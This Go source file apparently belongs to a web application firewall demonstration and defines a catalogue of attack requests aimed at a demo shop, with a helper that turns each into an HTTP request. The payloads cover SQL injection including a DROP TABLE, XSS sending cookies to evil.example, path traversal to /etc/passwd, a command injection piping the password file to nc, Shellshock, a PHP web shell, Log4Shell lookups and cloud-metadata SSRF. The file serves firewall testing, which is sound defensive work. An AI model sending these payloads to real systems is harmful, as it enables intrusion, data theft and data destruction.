package visitors

import (
	"context"
	"fmt"
	"net/http"
	"strings"
)

// Attack is one hostile request, of a kind that every web application firewall should know.
type Attack struct {
	Name        string // unique and short, such as "sqli-union"
	Class       string // "sqli", "xss", "traversal", "rce", "log4j", "scanner" or "protocol"
	Method      string
	Target      string // path and query exactly as sent
	Header      [][2]string
	ContentType string
	Body        string
}

// Attacks returns the samples. None of them does harm to the demonstration shop, with or
// without protection.
func Attacks() []Attack {
	const form = "application/x-www-form-urlencoded"
	get := func(name, class, target string, header ...[2]string) Attack {
		return Attack{Name: name, Class: class, Method: http.MethodGet, Target: target, Header: header}
	}
	post := func(name, class, target, media, body string) Attack {
		return Attack{Name: name, Class: class, Method: http.MethodPost, Target: target, ContentType: media, Body: body}
	}
	return []Attack{
		get("sqli-union", "sqli", "/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-"),
		get("sqli-tautology", "sqli", "/search?q=%27%20OR%20%271%27%3D%271%27%20--"),
		get("sqli-sleep", "sqli", "/p/LMP-0100?id=1%20AND%20SLEEP(5)"),
		get("sqli-stacked", "sqli", "/c/lamps?page=1%3B%20DROP%20TABLE%20orders--"),
		post("sqli-login", "sqli", "/basket", form, "action=add&sku=admin%27%20OR%201%3D1--%20&quantity=1"),
		get("xss-script", "xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
		get("xss-onerror", "xss", "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
		get("xss-svg", "xss", "/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E"),
		post("xss-form", "xss", "/checkout", form, "name=%3Cscript%3Efetch('%2F%2Fevil.example%2F'%2Bdocument.cookie)%3C%2Fscript%3E&email=a%40b.example&address=somewhere"),
		get("traversal-query", "traversal", "/search?file=../../../../etc/passwd"),
		get("traversal-encoded", "traversal", "/img/..%2f..%2f..%2f..%2fetc%2fpasswd"),
		get("traversal-windows", "traversal", "/search?q=..%5C..%5C..%5Cwindows%5Cwin.ini"),
		get("rce-shell", "rce", "/search?q=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%2010.0.0.1%204444"),
		get("rce-shellshock", "rce", "/", [2]string{"X-Forwarded-Agent", "() { :;}; /bin/bash -c 'id'"}),
		get("rce-php", "rce", "/search?q=%3C%3Fphp%20system(%24_GET%5B%27cmd%27%5D)%3B%20%3F%3E"),
		get("log4j-query", "log4j", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
		get("log4j-header", "log4j", "/", [2]string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}),
		get("log4j-nested", "log4j", "/", [2]string{"X-Client-Id", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"}),
		post("log4j-body", "log4j", "/api/basket", "application/json", `{"action":"add","sku":"${jndi:ldap://evil.example/a}"}`),
		get("scanner-env", "scanner", "/.env"),
		get("scanner-git", "scanner", "/.git/config"),
		get("ssrf-metadata", "protocol", "/search?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
	}
}

// Request makes the attack a request to the site at base, such as "http://127.0.0.1:8080".
func (a Attack) Request(ctx context.Context, base string) (*http.Request, error) {
	r, err := http.NewRequestWithContext(ctx, a.Method, strings.TrimSuffix(base, "/")+a.Target, strings.NewReader(a.Body))
	if err != nil {
		return nil, fmt.Errorf("visitors: attack %s: %w", a.Name, err)
	}
	for _, f := range a.Header {
		r.Header.Add(f[0], f[1])
	}
	if a.ContentType != "" {
		r.Header.Set("Content-Type", a.ContentType)
	}
	return r, nil
}
